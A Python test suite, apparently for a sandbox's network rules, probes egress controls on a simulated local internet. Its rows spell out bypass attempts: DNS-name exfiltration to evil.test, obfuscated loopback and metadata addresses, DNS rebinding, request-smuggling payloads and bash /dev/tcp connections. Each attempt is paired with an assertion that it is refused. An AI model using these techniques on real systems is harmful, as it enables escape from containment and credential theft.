"""rows_network.py: the NW rows: what a sandbox with rules may reach, on the small internet of network.py.
Its addresses are the machine's own, so a control is the same attempt outside of the sandbox.

The corpus speaks of a proxy. Ours is the network itself: there is no CONNECT and no SOCKS to lie to, so
rows of a proxy's parser try the same lie on what there is: names in questions, destinations, rules."""

import os

from harness import Hole, row
from network import ALLOW, DNS, OTHER, PRIVATE6, PUBLIC, PUBLIC6, Internet
from rows_audit import flags, logged, must

GOOD = "api.allowed.test:443"
HERE = "tcp %s 443" % PUBLIC
HERE6 = "tcp %s 443" % PUBLIC6


def rules(*allow):
    return tuple(word for rule in allow for word in ("--allow", rule))


def policy(t, text):
    """Flags for a network that is written out."""
    return ("--config", t.file("network-%d.lua" % len(os.listdir(t.dir)), "return { network = %s }" % text, 0o600))


def outward(t, *words, network=None, **options):
    """An attempt of the probe, in a sandbox with rules, that leaves a log."""
    return t.inside(*words, flags=(*flags(t), *(network or rules(*ALLOW))), **options)


def told(t, **want):
    """The `net` events in which all this stands, in detail, decision or the event itself."""
    found = []
    for event in logged(t):
        if event["op"] == "net":
            all_of = {**event, **event.get("detail", {}), **event.get("decision", {})}
            if all(all_of.get(key) == value for key, value in want.items()):
                found.append(all_of)
    return found


def refused_and_told(t, got, *targets):
    """None was reached, and the log has a reason for each."""
    t.stopped(got, *targets)
    for target in targets:
        host, port = target.strip().rsplit(":", 1)
        host = host.strip("[]").lower().rstrip(".")
        if not any(e.get("reason") for key in ("name", "address") for e in told(t, **{key: host})):
            raise Hole("the log does not say that %s was refused" % target)


def python(t, text, *words, network=None, outside=False, **options):
    """A program in Python, in the sandbox or outside."""
    program = ["/usr/bin/python3", "-c", "import socket, struct, sys, time\n" + text, *words]
    if outside:
        return t.run(program, **options)
    return t.command(*program, flags=(*flags(t), *(network or rules(*ALLOW))), **options)


ASK = """
def ask(labels, kind=1, server=sys.argv[1]):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in labels) + b'\\0' + struct.pack('>HH', kind, 1)
    s.sendto(q, (server, 53))
    try: r = s.recv(4096)
    except OSError: return -1, 0
    return r[3] & 15, struct.unpack('>H', r[6:8])[0]
def say(what, result): print(what + '\\t' + ('ALLOWED' if result == (0, 1) else 'DENIED') + '\\t%d %d' % result)
"""


@row("NW-01", "connect without asking anybody: no proxy variables, bare addresses, raw connect()",
     "a network namespace of its own, in which every address is local: only what a rule names is listened for", outcome="denied")
def bare_addresses(t):
    net = Internet(t)
    tries = (PUBLIC + ":443", OTHER + ":443", "[%s]:443" % PUBLIC6, PUBLIC + ":80")
    t.works(t.bare("tcp", GOOD, *tries))
    net.seen()
    for extra in ((), ("--env", "HTTPS_PROXY=http://%s:8080" % PUBLIC, "--env", "ALL_PROXY=x")):
        got = t.inside("tcp", GOOD, *tries, flags=(*flags(t), *rules(*ALLOW), *extra))
        t.works(got, GOOD)
        refused_and_told(t, got, *tries)
        net.nothing_but(HERE, HERE6)
    got = t.inside("tcp", GOOD, PUBLIC + ":443", flags=flags(t))
    t.stopped(got)
    net.nothing_but()
    must(told(t, name="api.allowed.test", rule=GOOD, phase="start"), "what was let through is not in the log")


@row("NW-02", "leave by UDP, ICMP, raw sockets, SCTP; ask another name server", "no datagram leaves: the stub alone answers; seccomp for the rest",
     outcome="denied")
def other_protocols(t):
    net = Internet(t)
    tries = (PUBLIC + ":443", DNS + ":443", OTHER + ":4443", "[%s]:443" % PUBLIC6, PUBLIC + ":9100")
    t.works(t.bare("udp", *tries))
    net.seen()
    got = outward(t, "udp", *tries)
    refused_and_told(t, got, *tries)
    t.stopped(outward(t, "protocols"))
    net.nothing_but()
    for server in (DNS, "8.8.8.8"):
        got = python(t, ASK + "say('asked', ask([b'api', b'allowed', b'test']))", server)
        t.stopped(got, "asked")
    must(not net.asked(net.seen()), "a question reached a name server outside")


@row("NW-03", "carry data out in the names that are asked for", "what no rule names is not asked for outside; for names under *.suffix that cannot be kept",
     outcome="denied", gap="a rule of *.suffix lets free names under that suffix be looked up: whoever runs its name server can be told things")
def dns_tunnel(t):
    secret = "mfxw2zlt"
    net = Internet(t, {"%s.%s" % (secret, n): {"A": [[PUBLIC]]} for n in ("evil.test", "api.allowed.test", "pkg.test")})
    names = [secret + ".evil.test", secret + ".api.allowed.test", "*.pkg.test"]
    t.works(t.bare("resolve", *names[:2]))
    must(secret + ".evil.test" in net.asked(net.seen()), "the control: it was not asked")
    t.stopped(outward(t, "resolve", *names[:2]))
    asked = net.asked(net.seen())
    must(not asked, "asked outside: %s" % asked)
    must(told(t, name=names[0]), "the refusal is not told")
    outward(t, "resolve", secret + ".pkg.test")
    must(net.asked(net.seen()), "a name under *.suffix is looked up: the gap is as it is told")


@row("NW-04", "names that begin or end like an allowed one", "labels are compared whole; *.suffix is not the suffix itself", outcome="denied")
def alike_names(t):
    names = ("api.allowed.test.evil.test", "evilapi.allowed.test", "notpkg.test", "xpkg.test", "pkg.test", "a.pkg.test.evil.test",
             "allowed.test", "api-allowed.test")
    net = Internet(t, {name: {"A": [[PUBLIC]]} for name in names})
    tries = [name + ":443" for name in names]
    t.works(t.bare("tcp", *tries))
    net.seen()
    got = outward(t, "tcp", "a.pkg.test:443", "deep.a.pkg.test:443", *tries)
    t.works(got, "a.pkg.test:443", "deep.a.pkg.test:443")
    refused_and_told(t, got, *tries)
    lines = net.seen()
    must(set(net.asked(lines)) <= {"a.pkg.test", "deep.a.pkg.test"}, "asked outside: %s" % net.asked(lines))
    must(set(x for x in lines if not x.startswith("dns")) == {HERE}, "reached: %s" % lines)


@row("NW-05", "other spellings of a name: case, dots at the end, spaces", "one spelling: lower case, one dot at the end removed; else it is no name",
     outcome="denied")
def spellings_of_names(t):
    net = Internet(t)
    same, other = ("API.ALLOWED.TEST:443", "api.allowed.test.:443", "Api.Allowed.Test.:443"), ("api.allowed.test..:443", " api.allowed.test:443", "api..allowed.test:443")
    got = outward(t, "tcp", *same, *other)
    t.works(got, *same)
    t.stopped(got, *other)
    got = python(t, ASK + """
for labels in ([b'api', b'allowed', b'test', b'evil'], [b'api.allowed.test'], [b'api', b'allowed.test'], [b' api', b'allowed', b'test']):
    say(repr(labels), ask(labels))
say('good', ask([b'aPi', b'ALLOWED', b'test']))""", "127.0.0.1")
    t.works(got, "good")
    t.stopped(got, but=("good",))
    net.nothing_but(HERE, HERE6)


@row("NW-06", "NUL and control bytes in a name", "letters, digits, - and . only, before anything is looked for", outcome="denied")
def bytes_in_names(t):
    net = Internet(t, {"x\0.pkg.test": {"A": [[PUBLIC]]}})
    text = ASK + """
for bad in (b'evil.test\\0', b'x\\0', b'x\\t', b'x\\r\\n', b'x%00', b'x/', b'x:443', b'x@', b'\\xff\\xfe', b'x y'):
    say(repr(bad), ask([bad, b'pkg', b'test']))
say('good', ask([b'a', b'pkg', b'test']))"""
    t.works(python(t, text, DNS, outside=True), "b'x\\x00'")
    net.seen()
    got = python(t, text, "127.0.0.1")
    t.works(got, "good")
    t.stopped(got, but=("good",))
    must(set(net.asked(net.seen())) <= {"a.pkg.test"}, "such a name was asked for outside")
    logged(t)  # and no byte of them is in the log
    for bad in ("a b:443", "a\tb:443", "a\x1b.test:443", "a%00.test:443", "a/b:443", "a@b:443", "\u0430pi.allowed.test:443"):
        got = t.command("true", flags=rules(bad), sound=False)
        must(got.code == 2, "%r is taken as a rule: %s" % (bad, got.brief()))


NUMBERS = ("0x7f.1", "2130706433", "0177.0.0.1", "127.1", "0", "2852039166", "0251.0376.0251.0376", "0xa9fea9fe", "127.000.000.001")


@row("NW-07", "loopback and metadata as numbers: 0x7f.1, 2130706433, 0177.0.0.1, 127.1, 0", "whatever inet_aton takes is an address, in rules too; special ranges are refused",
     outcome="denied")
def numbers(t):
    net = Internet(t)
    tries = [n + ":80" for n in NUMBERS]
    t.works(t.bare("tcp", *tries))
    net.seen()
    for network in (rules(*ALLOW), ("--network", "open")):
        t.stopped(outward(t, "tcp", *tries, network=network))
        net.nothing_but()
    for n in NUMBERS:
        if n != "0":
            got = t.command("true", flags=rules("*." + n + ":80"), sound=False)
            must(got.code == 2, "*.%s is taken as a suffix: %s" % (n, got.brief()))


@row("NW-08", "IPv6 with an IPv4 address inside: mapped, NAT64, 6to4; ::, 0.0.0.0, ::1", "an address inside an address is judged as well", outcome="denied")
def inside_six(t):
    net = Internet(t)
    tries = ["[::1]:80", "[::ffff:127.0.0.1]:80", "[::ffff:169.254.169.254]:80", "[::]:80", "0.0.0.0:80"] + ["[%s]:80" % a for a in PRIVATE6]
    t.works(t.bare("tcp", *tries))
    net.seen()
    for network in (rules(*ALLOW), ("--network", "open"), policy(t, "{ allow = { '*:80' } }")):
        t.stopped(outward(t, "tcp", *tries, network=network))
        net.nothing_but()


@row("NW-09", "a name that is public when it is asked for and loopback when it is connected to; a mixed answer; a CNAME to a private one",
     "looked up anew for each connection, every address judged, and the judged address itself dialled", outcome="denied")
def rebinding(t):
    net = Internet(t, {
        "rebind.pkg.test": {"A": [[PUBLIC], ["127.0.0.1"]]}, "mixed.pkg.test": {"A": [[PUBLIC, "10.9.8.7"]]},
        "alias.pkg.test": {"CNAME": "inner.evil.test"}, "inner.evil.test": {"A": [["10.9.8.7"]]},
        "six.pkg.test": {"A": [[PUBLIC]], "AAAA": [["::ffff:127.0.0.1"]]}, "loop.pkg.test": {"A": [["127.0.0.1"]]},
        "nat.pkg.test": {"AAAA": [["64:ff9b::7f00:1"]]}, "zero.pkg.test": {"A": [["0.0.0.0"]]}})
    names = [n + ".pkg.test:443" for n in ("mixed", "alias", "loop", "zero", "nat")]
    t.works(t.bare("tcp", *names))
    net.seen()
    refused_and_told(t, outward(t, "tcp", *names), *names)
    t.stopped(outward(t, "tcp", "six.pkg.test:443"))
    net.nothing_but()
    got = t.shell("PROBE resolve rebind.pkg.test; sleep 1.3; PROBE tcp rebind.pkg.test:443", flags=(*flags(t), *rules(*ALLOW)))
    t.works(got, "rebind.pkg.test")
    t.stopped(got, "rebind.pkg.test:443")
    must(any("127.0.0.1" == e.get("address") for e in told(t, name="rebind.pkg.test")), "the log does not say what it was rebound to")
    net.nothing_but()


METADATA = ("169.254.169.254", "100.100.100.200", "168.63.129.16", "[fd00:ec2::254]")


def metadata(t):
    net = Internet(t, {"metadata.google.internal": {"A": [["169.254.169.254"]]}, "md.pkg.test": {"A": [["169.254.169.254"]]}})
    tries = [a + ":80" for a in METADATA] + ["metadata.google.internal:80"]
    t.works(t.bare("tcp", *tries))
    net.seen()
    for network in (rules(*ALLOW), ("--network", "open"), rules("*:80"), rules("169.254.0.0/16:80", "fd00::/8:80"),
                    rules("metadata.google.internal:80", "*.pkg.test:80")):
        t.stopped(outward(t, "tcp", *tries, "md.pkg.test:80", network=network))
        net.nothing_but()
    got = outward(t, "tcp", "169.254.169.254:80", "100.100.100.200:80", network=rules("169.254.169.254:80"))
    t.works(got, "169.254.169.254:80")
    t.stopped(got, "100.100.100.200:80")


row("NW-10", "the metadata service: by address, by name, under *, open and wide networks", "refused unless a rule is that very address", outcome="denied")(metadata)
row("SE-11", "fetch the node's credentials from its metadata service", "refused unless a rule is that very address", outcome="denied")(metadata)


@row("NW-11", "be sent elsewhere by an allowed server", "nothing is followed: where the program goes next is judged anew", outcome="denied")
def redirected(t):
    net = Internet(t)
    tries = ("169.254.169.254:80", OTHER + ":443", "10.9.8.7:80")
    t.works(t.bare("tcp", *tries))
    net.seen()
    got = outward(t, "tcp", GOOD, *tries)
    t.works(got, GOOD)
    refused_and_told(t, got, *tries)
    net.nothing_but(HERE, HERE6)


@row("NW-12", "another port of an allowed name; ports that are none", "the port is part of a rule; what is no port is no rule", outcome="denied")
def ports(t):
    net = Internet(t)
    tries = ["api.allowed.test:%d" % p for p in (22, 25, 80, 8080, 8443)]
    t.works(t.bare("tcp", *tries[:4]))
    net.seen()
    got = outward(t, "tcp", GOOD, *tries)
    t.works(got, GOOD)
    refused_and_told(t, got, *tries)
    net.nothing_but(HERE, HERE6)
    for bad in ("0", "99999", "65536", "443x", "-1", "0x1bb", " 443", "443-80", "443,", ""):
        got = t.command("true", flags=rules("api.allowed.test:" + bad), sound=False)
        must(got.code == 2, "port %r: %s" % (bad, got.brief()))


TALK = """
s = socket.create_connection(('api.allowed.test', 80), 5)
s.settimeout(3)
s.recv(100)
s.sendall(sys.argv[1].encode('latin-1').decode('unicode_escape').encode('latin-1'))
try: print(len(s.recv(4000)))
except OSError as error: print(error)
"""


def only_its_server(net, got):
    """One connection, to the server that was named, which has got the bytes."""
    reached = net.reached()
    must(len(reached) == 1 and reached[0] in ("tcp %s 80" % PUBLIC, "tcp %s 80" % PUBLIC6), "it reached %s" % reached)
    must(got.out.strip().isdigit() and int(got.out) > 2, "the server did not get it: " + got.brief())


@row("NW-13", "plain HTTP that names another host: absolute form, Host", "bytes go to the server that was connected to, whatever they say", outcome="harmless")
def other_host(t):
    net = Internet(t)
    for text in (r"GET http://evil.test/ HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n", r"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                 r"CONNECT evil.test:443 HTTP/1.1\r\n\r\n", r"\x05\x01\x00"):
        got = python(t, TALK, text, network=rules("api.allowed.test:80"))
        only_its_server(net, got)


@row("NW-14", "smuggle a second request past the first: lengths that differ, folded lines, pipelines", "nobody between program and server reads them; where TLS is terminated see SE-09",
     outcome="harmless")
def smuggled(t):
    net = Internet(t)
    for text in (r"POST / HTTP/1.1\r\nHost: api.allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                 r"GET / HTTP/1.1\nHost: api.allowed.test\nHost: evil.test\n\n", r"GET / HTTP/1.1\r\nHost:\r\n evil.test\r\n\r\n"):
        got = python(t, TALK, text, network=rules("api.allowed.test:80"))
        only_its_server(net, got)


@row("NW-15", "TLS to an allowed name with another in its hello: fronting, none, no TLS at all", "`sni = true`: a hello that does not name the rule's name is reset",
     outcome="denied", gap="without `sni = true` an allowed server may serve other names (fronting); with it the Host inside TLS still may be another")
def fronting(t):
    net = Internet(t)
    strict = policy(t, "{ allow = { { host = 'api.allowed.test', port = 8443, sni = true } } }")
    hello = "echo | timeout 5 openssl s_client -connect api.allowed.test:8443 %s 2>&1 | grep -c 'BEGIN CERT'"
    tries = {"right": "-servername api.allowed.test", "other": "-servername evil.test", "none": "-noservername", "longer": "-servername api.allowed.test.evil.test"}
    for name, words in tries.items():
        must(t.run(["sh", "-c", hello % words]).out == b"1\n", "the control: %s does not work outside" % name)
        net.seen()
        got = t.shell(hello % words, flags=(*flags(t), *strict))
        must((got.out == b"1\n") == (name == "right"), "%s: %s" % (name, got.brief()))
        must(name == "right" or not net.reached(), "%s: the server was dialled before it was judged" % name)
    got = python(t, "s = socket.create_connection(('api.allowed.test', 8443), 5)\ns.settimeout(5)\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
                 "try: print(repr(s.recv(10)))\nexcept OSError as e: print(e)", network=strict)
    must(not net.reached(), "what is no TLS was let through: " + got.brief())
    must(told(t, name="api.allowed.test") and any("evil.test" in e.get("reason", "") for e in told(t, name="api.allowed.test")), "the log does not name it")


@row("NW-16", "go through a relay of one's own inside", "it is the destination that is judged, whoever connects", outcome="denied")
def own_relay(t):
    net = Internet(t)
    relay = """
import threading
def serve():
    c, _ = server.accept()
    try:
        with socket.create_connection((sys.argv[1], 443), 5) as s: c.sendall(s.recv(100))
    except OSError as error: c.sendall(b'refused %d' % (error.errno or 0))
    c.close()
server = socket.create_server(('127.0.0.1', 9999))
threading.Thread(target=serve).start()
print(socket.create_connection(('127.0.0.1', 9999), 5).recv(100))
"""
    must(b"here" in python(t, relay, OTHER, outside=True).out, "the control: the relay does not work")
    net.seen()
    must(b"here" in python(t, relay, "api.allowed.test").out, "a relay to what is allowed does not work")
    must(b"refused" in python(t, relay, OTHER).out, "the relay reached it")
    net.nothing_but(HERE, HERE6)


@row("NW-17", "a thousand connections, slow ones, halves of ones", "64 at once for a session; those beyond are reset, and told", outcome="bounded")
def crowd(t):
    net = Internet(t)
    t.works(t.bare("crowd", GOOD, "300"))
    net.seen()
    again = "for i in $(seq 100); do PROBE tcp %s | tee last | grep -q ALLOWED && break; sleep 0.1; done; cat last" % GOOD
    got = t.shell("PROBE crowd %s 300; %s" % (GOOD, again), flags=(*flags(t), *rules(*ALLOW)))
    must(got.number("crowd") == 64, "not 64 at once: " + got.detail("crowd"))
    t.works(got, GOOD)
    must(any("network.connections" in e.get("reason", "") for e in told(t, rule="connections")), "it is not told")
    got = python(t, """
s = socket.create_connection(('api.allowed.test', 443), 5); s.recv(100)
s.sendall(b'half'); s.shutdown(socket.SHUT_WR)
data = b''
while chunk := s.recv(100): data += chunk
print(data)""")
    must(b"half" in got.out, "half a connection does not work: " + got.brief())


@row("NW-18", "use what another sandbox may: its synthetic addresses, its listeners, its stub", "each has its own network namespace and its own numbers", outcome="denied")
def anothers(t):
    net = Internet(t)
    got = t.script("""
    local function of(allow)
      local config = with_probe({}, { network = { allow = allow } })
      return opened(real.open(config))
    end
    local a, b = of { "api.allowed.test:443" }, of { "four.allowed.test:443" }
    local found = assert(a:exec({ PROBE, "resolve", "api.allowed.test" })).stdout
    io.write((found:gsub("api", "a's")))
    local address = found:match "198%.%d+%.%d+%.%d+"
    io.write((assert(b:exec({ PROBE, "tcp", address .. ":443", "api.allowed.test:443", "[fd00::2]:443" })).stdout:gsub("[^\\n]+", "b: %0")))
    a:close() b:close()
    """, flags=flags(t))
    t.works(got, "a's.allowed.test")
    t.stopped(got, *(name for name in got.said if name.startswith("b: ")))
    net.nothing_but()


@row("NW-19", "rules that say nothing, or all: an empty list, '', '*', '*.*', '*.com', 'com'", "no rules is no network; what is too wide is an error that says how to write it",
     outcome="refused")
def wide_rules(t):
    net = Internet(t)
    for bad in ("*", "", "*.*", "*.com", "*.*:443", "*.:443", ":443", "**:443", "*a.test:443", "a.*.test:443"):
        got = t.command("true", flags=rules(bad), sound=False)
        must(got.code == 2 and got.err, "%r: %s" % (bad, got.brief()))
    for empty in ("{ allow = {} }", "{}", "{ default = 'deny' }", "'none'"):
        got = t.inside("tcp", GOOD, PUBLIC + ":443", "127.0.0.1:443", flags=policy(t, empty))
        t.stopped(got)
    for wrong in ("{ allow = 'api.allowed.test:443' }", "{ allow = { 7 } }", "{ alow = {} }", "{ default = 'maybe' }", "true", "{ allow = { { port = 443 } } }"):
        got = t.command("true", flags=policy(t, wrong), sound=False)
        must(got.code == 2, "%s: %s" % (wrong, got.brief()))
    net.nothing_but()


@row("NW-20", "listen inside, be reached from the host", "the ports are those of its own network namespace", outcome="absent")
def listening(t):
    net = Internet(t)
    got = t.inside("own-server", "127.0.0.1:8081", flags=rules(*ALLOW))
    t.works(got)
    listener = t.start(t.sandbox_argv(["/usr/bin/python3", "-c", "import socket, time\ns = socket.create_server(('', 7777))\n"
                                       "print('up', flush=True)\ntime.sleep(30)"], rules(*ALLOW)), stdout=-1)
    must(listener.stdout.readline() == b"up\n", "the listener does not run")
    t.stopped(t.bare("tcp", "127.0.0.1:7777", PUBLIC + ":7777", "198.18.0.1:7777"))
    net.nothing_but()


@row("NW-21", "names in other scripts, underscores, names and labels that are too long", "ASCII of RFC 1123, as it is asked for; else no name", outcome="denied")
def odd_names(t):
    long = ".".join(["a" * 63] * 4) + ".pkg.test"
    net = Internet(t, {"_x.pkg.test": {"A": [[PUBLIC]]}, "xn--e1afmkfd.pkg.test": {"A": [[PUBLIC]]}})
    got = python(t, ASK + """
for labels in ([b'_x', b'pkg', b'test'], ['\\u0430pi'.encode(), b'pkg', b'test'], ['\\uff41'.encode(), b'pkg', b'test'],
               [b'a' * 63] * 4 + [b'pkg', b'test'], [b'-a', b'pkg', b'test'], [b'a-', b'pkg', b'test'], ['\\u2460.0.0.1'.encode()], [b'xn--'], []):
    say(repr(labels)[:40], ask(labels))
say('good', ask([b'xn--e1afmkfd', b'pkg', b'test']))""", "127.0.0.1")
    t.works(got, "good")
    t.stopped(got, but=("good",))
    must(set(net.asked(net.seen())) <= {"xn--e1afmkfd.pkg.test"}, "an odd name was asked for outside")
    for bad in (long + ":443", "a" * 64 + ".test:443", "x" * 300 + ":443", "\u2460\u2461\u2466.0.0.1:80", "a_b.test:443"):
        got = t.command("true", flags=rules(bad), sound=False)
        must(got.code == 2 and len(got.err) < 1000, "%r: %s" % (bad[:30], got.brief()))


@row("NW-22", "bend the resolver: hosts file, resolv.conf, HOSTALIASES, LOCALDOMAIN, search domains", "the engine's own resolver outside, with whole names", outcome="denied")
def bent_resolver(t):
    net = Internet(t, {"api.allowed.test.allowed.test": {"A": [[OTHER]]}, "short.allowed.test": {"A": [[OTHER]]}})
    text = ("echo 'api.allowed.test evil.test' > a; export HOSTALIASES=a LOCALDOMAIN=evil.test RES_OPTIONS='ndots:9';"
            "echo '%s evil.test' >> /etc/hosts; echo nameserver %s > /etc/resolv.conf; PROBE tcp evil.test:443 short:443 %s" % (OTHER, DNS, GOOD))
    got = t.shell(text, flags=(*flags(t), *rules(*ALLOW, "short.:443")))
    t.works(got, GOOD)
    t.stopped(got, "evil.test:443", "short:443")
    asked = net.seen()
    must(not [n for n in net.asked(asked) if n.endswith(".allowed.test.allowed.test") or n == "short.allowed.test"], "a search domain was tried: %s" % asked)
    must(not [x for x in asked if OTHER + " " in x], "it reached the other")


@row("PR-16", "pass descriptors over the gateway's connections, and have some passed", "they are TCP: no descriptors travel; the engine's are close-on-exec and not inherited",
     outcome="harmless")
def descriptors(t):
    net = Internet(t)
    pair = """
import array
def send(s):
    try: return s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0, 1, 2] * 80))])
    except OSError as error: return -error.errno
"""
    must(python(t, pair + "a, b = socket.socketpair()\nprint(send(a), len(socket.recv_fds(b, 1, 250)[1]))", outside=True).out.split()[1] == b"240",
         "the control: a unix socket does not carry them")
    got = python(t, pair + """
for i in range(40):
    s = socket.create_connection(('api.allowed.test', 443), 5); s.recv(100); send(s)
    data, fds, _, _ = socket.recv_fds(s, 10, 250)
    if fds: print('GOT', fds)
    s.close()
print('done')""")
    must(b"done" in got.out and b"GOT" not in got.out, got.brief())
    got = t.inside("fds", flags=rules(*ALLOW))
    t.stopped(got)
    net.nothing_but(HERE, HERE6)


@row("XA-38", "the network through the shell and its tools: /dev/tcp, an interpreter, a copy of it under another name", "the network namespace: it does not matter who connects",
     outcome="denied")
def through_the_shell(t):
    net = Internet(t)
    socket_in_python = "-c 'import socket; print(socket.create_connection((\"%s\", 443), 5).recv(99))'" % OTHER
    texts = ("bash -c 'exec 3<>/dev/tcp/%s/443; head -n 1 <&3'" % OTHER, "/usr/bin/python3 " + socket_in_python,
             "cp /usr/bin/python3 innocent; ./innocent " + socket_in_python)
    for text in texts:
        must(b"here" in t.run(["sh", "-c", text], cwd=t.tmp).out, "the control: %s does not reach it" % text)
        net.seen()
        got = t.shell(text, flags=(*flags(t), *rules(*ALLOW)))
        must(b"here" not in got.out, "%s: %s" % (text, got.brief()))
        net.nothing_but()
    must(told(t, address=OTHER), "it is not told")
